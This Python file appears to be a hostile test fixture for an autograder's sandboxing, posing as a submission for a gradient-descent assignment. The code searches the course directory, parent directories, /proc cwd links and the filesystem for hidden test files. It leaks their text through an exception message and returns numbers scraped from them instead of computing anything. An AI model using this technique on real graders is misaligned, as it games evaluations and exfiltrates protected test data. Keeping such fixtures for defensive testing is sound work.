# HOSTILE CASE: read the hidden tests and hand their text and numbers back.
# Assignment: ps1_gradient_descent
# Tries: looks for solutions/**/test_hidden.py in the course (@@COURSE@@), above its working directory,
#        in ancestors' working directories and by glob over /; get_minimizer_x raises an exception whose
#        message carries the start of every file found (so the report would show it); gradient_descent
#        returns numbers parsed from the hidden tests.
# Honest: nothing is computed honestly; both functions must earn nothing, and no text of the hidden tests
#         may appear in the report.
# Bounded: fixed globs, once per process; files read at most 64 kB each.
import glob
import os
import re

import numpy as np

COURSE = "@@COURSE@@"


_cache = []


def _found():
    if not _cache:
        _cache.append(_search())
    return _cache[0]


def _search():
    patterns = [os.path.join(COURSE, "solutions", "*", "test_hidden.py")]
    here = os.getcwd()
    for _ in range(8):
        patterns.append(os.path.join(here, "solutions", "*", "test_hidden.py"))
        here = os.path.dirname(here)
    for pid in ("self", str(os.getppid())):
        patterns.append(f"/proc/{pid}/cwd/solutions/*/test_hidden.py")
    for depth in range(0, 5):
        patterns.append("/" + "*/" * depth + "solutions/*/test_hidden.py")
    texts = []
    for pattern in patterns:
        for path in sorted(glob.glob(pattern)):
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    texts.append((path, f.read(65536)))
            except OSError:
                pass
    return texts


def get_minimizer_x(iterations, learning_rate, init):
    texts = _found()
    raise ValueError("hidden tests: " + " || ".join(f"{p}: {t[:1500]}" for p, t in texts)[:20000])


def gradient_descent(grad_fn, x0, learning_rate, iterations):
    numbers = [float(n) for _, t in _found() for n in re.findall(r"-?\d+\.\d+(?:e-?\d+)?", t)]
    size = np.asarray(x0).size
    numbers = (numbers + [1e6] * size)[:size]
    return np.array(numbers, dtype=float).reshape(np.shape(x0))
